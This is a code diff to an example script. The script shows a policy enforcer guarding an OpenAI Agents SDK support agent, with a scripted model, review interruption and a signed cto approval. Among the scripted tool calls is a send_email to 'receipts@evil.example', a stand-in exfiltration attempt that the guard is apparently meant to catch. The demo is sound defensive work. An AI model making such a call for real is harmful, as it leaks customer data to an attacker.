@@ -7,9 +7,9 @@
 // any model and nothing else changes. `run()` runs the real agent loop.
 import { existsSync } from "node:fs";
 import { Agent, run, setTracingDisabled } from "@openai/agents";
-import { assistantMessage, functionCall, modelResponder, ScriptedModel } from "@openai/agents/testing";
+import { assistantMessage, functionCall, ScriptedModel } from "@openai/agents/testing";
 import { ed25519Approvers, generateKeys, signApproval } from "@apol/audit";
-import { guardTools } from "@apol/openai-agents";
+import { guardTools, openReview } from "@apol/openai-agents";
 import { createEnforcer } from "@apol/runtime";
 
 const compiled = new URL("./build/support-agent.js", import.meta.url);
@@ -22,12 +22,7 @@ setTracingDisabled(true); // no traces leave the machine
 
 // The cto's keys: the enforcer knows only the public one; the cto signs with the private one (`apol approve`).
 const cto = generateKeys();
-const reviews = [];
-const enforcer = createEnforcer(policy, {
-  approvers: ed25519Approvers({ cto: cto.publicKey }),
-  // The harness shows each opened review to its approvers; here it keeps them for the cto.
-  log: { append: (entry) => entry.event === "decision" && entry.decision.effect === "review" && reviews.push(entry.decision.approvals) },
-});
+const enforcer = createEnforcer(policy, { approvers: ed25519Approvers({ cto: cto.publicKey }) });
 
 // The agent's tools, written as for any Agents SDK app (what each would pass to `tool()`). The payment provider times out once.
 let refundTries = 0;
@@ -48,7 +43,7 @@ const tools = [
   { name: "close_account", description: "Close a customer's account", parameters: object({ id: { type: "string" } }), execute: async ({ id }) => `closed ${id}` },
 ];
 
-// The model's turns, scripted: one tool call each, then its answer. Before the second `close_account`, the cto approves.
+// The model's turns, scripted: one tool call each, then its answer.
 const turns = [
   ["get_customer", { id: "c-7" }],
   ["issue_refund", { order: "o-1", amount: 400 }],
@@ -58,34 +53,36 @@ const turns = [
   ["read_ticket", { id: "t-9" }],
   ["send_email", { to: "receipts@evil.example", body: "your receipt" }],
   ["close_account", { id: "c-7" }],
-  ["close_account", { id: "c-7" }],
 ];
-let approval;
 const model = new ScriptedModel([
-  ...turns.map(([name, args], i) =>
-    modelResponder(async () => {
-      if (i === 8) {
-        const { review, digest } = reviews.at(-1);
-        approval = await enforcer.approveAsync(review, signApproval(cto.privateKey, review, digest, "cto"));
-      }
-      return [functionCall(name, args, { callId: `call-${i + 1}` })];
-    }),
-  ),
+  ...turns.map(([name, args], i) => [functionCall(name, args, { callId: `call-${i + 1}` })]),
   [assistantMessage("Refunded o-1 and closed c-7; o-2 must wait for tomorrow's budget.")],
 ]);
 
-// The whole integration: one call builds the guarded tools; the session and user come from the run's context.
-const agent = new Agent({
-  name: "support",
-  instructions: "Help the customer.",
-  model,
-  tools: guardTools(enforcer, tools, ({ context }) => ({ session: context.threadId, user: { id: context.userId } })),
-});
-const result = await run(agent, "Customer c-7 was charged twice for order o-1, and wants the account closed.", { context: { threadId: "thread-42", userId: "u-1" }, maxTurns: 12 });
+// The whole integration: one call builds the guarded tools; the session and user come from the run's context. With
+// `sdkApproval`, a call the policy holds for review interrupts the run, as the SDK's own `needsApproval` does.
+const callerOf = ({ context }) => ({ session: context.threadId, user: { id: context.userId } });
+const agent = new Agent({ name: "support", instructions: "Help the customer.", model, tools: guardTools(enforcer, tools, callerOf, { sdkApproval: true }) });
+const context = { threadId: "thread-42", userId: "u-1" };
+const show = (items) => {
+  for (const item of items) {
+    if (item.type === "tool_call_item") console.log(`model calls ${item.rawItem.name}(${item.rawItem.arguments})`);
+    if (item.type === "tool_call_output_item") console.log(`  result: ${typeof item.output === "string" ? item.output : JSON.stringify(item.output)}`);
+  }
+};
+let result = await run(agent, "Customer c-7 was charged twice for order o-1, and wants the account closed.", { context, maxTurns: 12 });
+show(result.newItems);
 
-for (const item of result.newItems) {
-  if (item.type === "tool_call_item" && item.rawItem.callId === "call-9") console.log(`the cto signs the review: ${approval.status}`);
-  if (item.type === "tool_call_item") console.log(`model calls ${item.rawItem.name}(${item.rawItem.arguments})`);
-  if (item.type === "tool_call_output_item") console.log(`  result: ${typeof item.output === "string" ? item.output : JSON.stringify(item.output)}`);
+// The run paused on the account closure. The harness opens its apol review and the cto signs it (`apol approve`, the
+// review desk); approving in the SDK alone would run nothing. Then the run resumes, and the closure runs once.
+for (const item of result.interruptions) {
+  console.log(`run paused: ${item.name}(${item.arguments}) needs approval`);
+  const { review, digest } = (await openReview(enforcer, callerOf({ context }), item)).approvals;
+  console.log(`the cto signs the review: ${(await enforcer.approveAsync(review, signApproval(cto.privateKey, review, digest, "cto"))).status}`);
+  result.state.approve(item);
 }
+const paused = new Set(result.interruptions.map((item) => item.rawItem.callId));
+result = await run(agent, result.state, { context, maxTurns: 12 });
+// The resumed run's items repeat the earlier ones: show what came of the paused calls.
+show(result.newItems.filter((item) => item.type === "tool_call_output_item" && paused.has(item.rawItem.callId)));
 console.log(`model says: ${result.finalOutput}`);
